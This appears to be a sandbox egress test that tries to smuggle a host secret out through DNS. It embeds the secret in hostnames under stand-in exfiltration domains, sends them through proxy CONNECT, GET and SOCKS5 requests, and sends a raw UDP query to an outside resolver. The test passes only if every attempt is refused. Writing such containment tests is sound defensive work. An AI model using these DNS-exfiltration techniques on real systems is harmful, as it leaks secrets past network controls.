# profile: egress
"""Carry the host's secret out in DNS: ask the egress proxy for names that
embed it (a resolver on the way would leak it), and query DNS directly."""
def main(args):
    leak = args.params["secret"].replace("_", "-")[:40].lower()
    port = args.params["host_port"]
    for name in [f"{leak}.exfil.example", f"{leak}.localhost.example", f"x.{leak}.example.org"]:
        answer = proxy_exchange(f"CONNECT {name}:{port} HTTP/1.1\r\n\r\n".encode())
        if b"the name was not resolved" not in answer:
            return escaped(f"the proxy did not refuse {name} before resolving it: {answer[:200]!r}")
        answer = proxy_exchange(f"GET http://{name}:{port}/ HTTP/1.1\r\n\r\n".encode())
        if b"the name was not resolved" not in answer:
            return escaped(f"the proxy did not refuse http://{name} before resolving it: {answer[:200]!r}")
        if socks5_reply(name, port) != 2:
            return escaped(f"SOCKS5 did not refuse {name} by rule")
    try:
        socket.getaddrinfo(f"{leak}.exfil.example", 80)
        return escaped("a name resolved inside the sandbox")
    except socket.gaierror:
        pass
    s = socket.socket(socket.AF_INET, socket.SOCK_DGRAM)
    try:
        s.sendto(b"\x12\x34\x01\x00\x00\x01\x00\x00\x00\x00\x00\x00", ("192.0.2.53", 53))
        return escaped("a UDP datagram left for an outside resolver")
    except OSError as e:
        if e.errno != errno.ENETUNREACH:
            return escaped(f"a datagram to an outside resolver failed with {e!r}, not for want of a route")
    finally:
        s.close()
    return stopped("names refused before any lookup; no resolver and no route inside")
